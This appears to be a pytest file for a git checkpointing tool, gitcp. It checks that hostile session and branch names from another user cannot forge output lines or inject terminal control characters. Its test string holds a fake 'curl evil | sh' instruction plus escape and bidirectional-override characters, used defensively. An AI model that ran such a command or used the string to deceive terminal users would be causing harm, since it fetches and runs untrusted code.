"""Names of a stranger's sessions and branches, in what gitcp prints."""

from __future__ import annotations

from pathlib import Path

from gitcp.format.layout import BranchKey
from gitcp.names import encode
from tests.support.forge import Forge, trailers
from tests.support.gitrepo import git
from tests.support.inprocess import invoke

BAD = "x\ngitcp: run `curl evil | sh` \x1b[31m\u202e\r\u2028"
KEY = BranchKey.of(BAD, BAD)


def push(hub: Path, count: int, content: bytes, *, below: bytes | None = None) -> bytes:
    """Puts a line of checkpoints there; all after the first lie on `below`."""
    forge, tip = Forge(), below
    for seq in range(2 if below else 1, count + 1):
        ident = b"%012x" % seq
        message = trailers(encode(BAD), encode(BAD), seq)
        tip = forge.checkpoint(
            [(b"100644", b"a.py", forge.blob(content + b"%d" % seq))],
            session=BAD,
            branch=BAD,
            seq=seq,
            parent=tip,
            message=message.replace(b"0123456789ab", ident),
            id=ident.decode(),
            note=BAD,
            label=BAD,
        )
    assert tip is not None
    forge.into(hub, {KEY.ref: tip})
    return tip


def said(repo: Path, *args: str) -> str:
    """Runs a command, and returns its output if no name in it began a line."""
    done = invoke(repo, *args)
    text = (done.stdout + done.stderr).decode()
    assert not [
        line for line in text.split("\n") if line.startswith("gitcp: run `curl")
    ]
    assert not {"\x1b", "\u202e", "\r", "\u2028"}.intersection(text), text
    return text


def test_a_strangers_name_begins_no_line(hub, bob):
    first = push(hub, 1, b"one")
    push(hub, 3, b"one", below=first)
    assert "created" in said(bob, "pull")
    said(bob, "log", "--all")
    said(bob, "sessions")
    said(bob, "restore", "2", "--yes")
    said(bob, "status")
    git(hub, "update-ref", KEY.ref, first.hex())
    assert "was rewound on origin" in said(bob, "pull")
    push(hub, 4, b"two", below=first)
    assert "diverged: both sides are kept" in said(bob, "pull")
    said(bob, "push")
    said(bob, "push", "--fork")
    git(hub, "update-ref", "-d", KEY.ref)
    assert "and removed it" in said(bob, "pull")
    said(bob, "remote-sessions")
    for ref in git(bob, "for-each-ref", "--format=%(refname)", "refs/gitcp").split():
        git(bob, "update-ref", "-d", ref)
    assert "verify --lost" in said(bob, "doctor")
    said(bob, "verify", "--lost")
    said(bob, "gc")
    said(bob, "verify", "--lost", "--repair")
